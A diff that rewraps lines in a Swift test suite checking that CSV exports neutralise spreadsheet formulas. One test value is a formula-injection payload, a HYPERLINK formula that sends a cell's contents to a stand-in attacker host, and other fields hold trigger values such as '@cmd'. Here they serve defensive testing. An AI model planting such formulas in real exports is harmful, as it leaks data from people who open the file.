@@ -18,7 +18,9 @@ import Testing
     }
 
     func csvRows(_ text: String) -> [[String]] {
-        text.replacingOccurrences(of: "\u{FEFF}", with: "").split(separator: "\r\n").map { $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init) }
+        text.replacingOccurrences(of: "\u{FEFF}", with: "").split(separator: "\r\n").map {
+            $0.split(separator: ",", omittingEmptySubsequences: false).map(String.init)
+        }
     }
 
     @Test(arguments: BackendKind.all) func analystsGetStablePseudonymsAndNoPhoneNumbers(_ kind: BackendKind) async throws {
@@ -70,10 +72,12 @@ import Testing
     @Test(arguments: BackendKind.all) func remoteCSVExportsNeutraliseFormulas(_ kind: BackendKind) async throws {
         let fx = try await ServerFixture(kind)
         let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
-        let change = sessionChange(node: "aaaaaaaaaaaaaaaa", hlc: stampNow(), values: [
-            "title": .string(formula), "date": .string("2026-09-08"), "region": .string("gao"), "locality": .string("@cmd"),
-            "format": .string("intergenerational"), "tensions": .string("-12,5"),
-        ])
+        let change = sessionChange(
+            node: "aaaaaaaaaaaaaaaa", hlc: stampNow(),
+            values: [
+                "title": .string(formula), "date": .string("2026-09-08"), "region": .string("gao"), "locality": .string("@cmd"),
+                "format": .string("intergenerational"), "tensions": .string("-12,5"),
+            ])
         try await fx.app().test(.router) { client in
             let pushed = try await client.push(Wire.PushRequest(batch: "b1", node: "aaaaaaaaaaaaaaaa", changes: [change]), token: fx.tokens["fac1"])
             #expect(pushed.status == .ok && pushed.json["applied"]?.intValue == 1, "\(pushed.text)")
